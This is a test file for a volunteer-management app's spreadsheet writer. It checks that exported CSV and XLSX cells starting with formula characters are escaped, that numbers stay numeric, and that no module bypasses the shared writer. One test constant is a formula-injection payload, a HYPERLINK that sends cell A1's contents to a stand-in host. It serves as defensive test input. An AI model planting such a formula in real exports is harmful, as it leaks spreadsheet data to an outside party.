"""The one CSV/XLSX writer: formula-like cells are neutralised, numbers stay numbers, nobody bypasses it."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from kawaltps.core import spreadsheet
from kawaltps.core.spreadsheet import safe_cell

SRC = Path(__file__).resolve().parents[2] / "src"
PAYLOAD = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")'


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"),
    (PAYLOAD, "'" + PAYLOAD),
    ("Siti Aminah", "Siti Aminah"), ("a=b", "a=b"), ("", ""), (None, ""),
    ("-5", "-5"), ("+6281234567001", "+6281234567001"), ("-1.5e3", "-1.5e3"), ("3175081001", "3175081001"),
    (-5, -5), (2.5, 2.5), (Decimal("-1.20"), Decimal("-1.20")), (True, True),
    (datetime.date(2024, 11, 27), datetime.date(2024, 11, 27)),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_round_trip_keeps_text_and_numbers():
    rows = [["nama", "suara"], [PAYLOAD, 12], ["-", -3], ["Budi, S.H.", 0]]
    data = spreadsheet.csv_bytes(rows).decode()
    back = list(csv.reader(io.StringIO(data)))
    assert back == [["nama", "suara"], ["'" + PAYLOAD, "12"], ["'-", "-3"], ["Budi, S.H.", "0"]]


def test_xlsx_has_no_formula_and_keeps_numbers():
    from openpyxl import load_workbook

    data = spreadsheet.xlsx_bytes([["nama", "suara"], [PAYLOAD, 12], ["@x", -3.5], ["bel\x07l", None]],
                                  sheet_title="Relawan")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "Relawan"
    assert ws["A2"].value == "'" + PAYLOAD and ws["A2"].data_type == "s"
    assert ws["A3"].value == "'@x" and ws["B3"].value == -3.5 and ws["B2"].value == 12
    assert ws["A4"].value == "bell"
    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)


# Writers that produce files for people; the two ``write_csv`` calls that feed PostgreSQL's COPY are
# database loading, not files anyone opens.
WRITER = re.compile(r"csv\.(writer|DictWriter)\b|from csv import|Workbook\(|xlsxwriter|\.write_excel\(|"
                    r"\.to_csv\(|\.to_excel\(|\.write_csv\(")
ALLOWED = {
    ("kawaltps/core/spreadsheet.py", None),
    ("kawaltps/results/tabulation.py", ".write_csv("),
    ("kawaltps/results/importers/loader.py", ".write_csv("),
    ("kawaltps/results/importers/fastcopy.py", ".write_csv("),
    ("kawaltps/results/importers/base.py", ".write_csv("),  # insert_frame: the COPY buffer of new regions
}


def test_no_exporter_bypasses_the_shared_writer():
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            for match in WRITER.finditer(line):
                if (rel, None) in ALLOWED or (rel, match.group(0)) in ALLOWED:
                    continue
                offenders.append(f"{rel}:{n}: {line.strip()}")
    assert not offenders, "write CSV/XLSX through kawaltps.core.spreadsheet:\n" + "\n".join(offenders)


def test_volunteer_export_download_neutralises_a_formula_name(client, users):
    from kawaltps.people.models import Organisation
    from kawaltps.volunteers.models import Volunteer

    org = Organisation.objects.create(name="@Ormas Mitra")
    Volunteer.objects.create(name=PAYLOAD, nik="3175084506900001", phone="6281234567001",
                             kelurahan_id="3175081002", organisation=org)
    Volunteer.objects.create(name="-Budi", nik="3175084506900002", phone="6281234567002",
                             kelurahan_id="3175081002")
    client.force_login(users["koordinator"])
    response = client.get("/relawan/ekspor.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:2] == ["id", "nama"]
    by_name = {r[1]: r for r in rows[1:]}
    assert set(by_name) == {"'" + PAYLOAD, "'-Budi"}
    assert by_name["'" + PAYLOAD][5] == "'@Ormas Mitra"
    assert by_name["'-Budi"][0].isdigit()  # the id is still a plain number
    assert not any(cell.startswith(spreadsheet.FORMULA_STARTS) for r in rows for cell in r)


def test_volunteer_template_download_goes_through_the_writer(client, users):
    client.force_login(users["koordinator"])
    rows = list(csv.reader(io.StringIO(client.get("/relawan/impor/templat.csv").content.decode())))
    assert rows[0][0] == "nama" and rows[1][0] == "Siti Rahmawati"
